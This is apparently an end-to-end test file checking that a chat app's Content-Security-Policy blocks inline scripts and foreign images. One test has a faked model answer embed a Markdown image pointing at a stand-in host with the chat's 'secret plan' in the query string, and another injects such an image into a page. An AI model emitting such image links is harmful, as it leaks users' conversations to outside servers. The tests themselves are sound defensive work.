// The SPA runs whole under the server's Content-Security-Policy: no screen needs an inline script
// or style, and a foreign image (what a Markdown answer could try) is blocked.
import { formatDirective } from "@parley/agent/fake-bedrock";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser, signInInBrowser } from "../support/browser.ts";
import { startTestServer, type TestServer } from "../support/server.ts";
import { signUpAs } from "../support/users.ts";

let browser: Browser;
let server: TestServer;
let context: BrowserContext;
beforeAll(async () => {
  [browser, server] = await Promise.all([launchBrowser(), startTestServer()]);
  context = await browser.newContext({ baseURL: server.url });
});
afterAll(async () => {
  await context?.close();
  await browser?.close();
  await server?.close();
});

/** Every CSP violation the page reports, from the console and from the DOM event. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await page.exposeFunction("reportCspViolation", (text: string) => violations.push(text));
  await page.addInitScript(`
    document.addEventListener("securitypolicyviolation", (event) =>
      window.reportCspViolation(event.violatedDirective + " " + event.blockedURI));
  `);
  return violations;
}

const signIn = (page: Page, email: string, password: string) => signInInBrowser(page, email, password);

describe("Content-Security-Policy in the browser", () => {
  it("every screen loads with no violation", async () => {
    const admin = await signUpAs(server, "admin");
    const page = await context.newPage();
    const violations = await watchViolations(page);

    await page.goto("/register");
    await expect.poll(() => page.getByRole("button", { name: "Create account" }).isVisible()).toBe(true);
    await signIn(page, admin.input.email, admin.input.password);

    for (const path of [
      "/chat",
      "/profile",
      "/admin/users",
      `/admin/users/${admin.user.id}`,
      "/admin/usage",
      "/admin/live",
      "/admin/models",
    ]) {
      await page.goto(path);
      await page.waitForLoadState("networkidle");
      await expect
        .poll(async () => (await page.locator("main").textContent())?.trim().length ?? 0)
        .toBeGreaterThan(0);
    }
    expect(violations).toEqual([]);
  });

  it("a Markdown image in an answer cannot send the chat to another server", async () => {
    const [granter, user] = await Promise.all([signUpAs(server, "admin"), signUpAs(server, "user")]);
    await granter.client.admin.credits.allocate.mutate({ userId: user.user.id, credits: 1_000_000 });
    const isolated = await browser.newContext({ baseURL: server.url });
    const page = await isolated.newPage();
    const violations = await watchViolations(page);
    // How each request to the foreign host ended: the browser must refuse it itself (CSP), before
    // any DNS look-up or connection.
    const foreign: string[] = [];
    page.on("requestfailed", (request) => {
      if (request.url().includes("collector.invalid")) foreign.push(request.failure()?.errorText ?? "");
    });
    page.on("requestfinished", (request) => {
      if (request.url().includes("collector.invalid")) foreign.push("finished");
    });
    await signIn(page, user.input.email, user.input.password);
    await page.goto("/chat");
    const answer = "Here it is: ![chart](https://collector.invalid/leak.png?q=the-secret-plan)";
    const box = page.getByRole("textbox", { name: "Message" });
    await box.fill(`the secret plan ${formatDirective({ text: answer })}`);
    await box.press("Enter");
    const settled = page.getByRole("article", { name: "Answer", exact: true });
    await expect.poll(() => settled.count(), { timeout: 20_000 }).toBe(1);
    await expect.poll(() => violations.join("\n")).toMatch(/img-src.*collector\.invalid/);
    // Chromium reports a CSP block as "csp" (net::ERR_BLOCKED_BY_CSP in older builds).
    expect(foreign.length).toBeGreaterThan(0);
    expect(
      foreign.every((outcome) => /csp/i.test(outcome)),
      foreign.join(),
    ).toBe(true);
    await isolated.close();
  });

  it("blocks an image from a foreign server", async () => {
    const page = await context.newPage();
    const violations = await watchViolations(page);
    await page.goto("/login");
    await page.evaluate(`(() => {
      const img = document.createElement("img");
      img.src = "https://collector.invalid/leak.png?text=secret";
      document.body.append(img);
    })()`);
    await expect.poll(() => violations.join("\n")).toMatch(/img-src.*collector\.invalid/);
  });
});
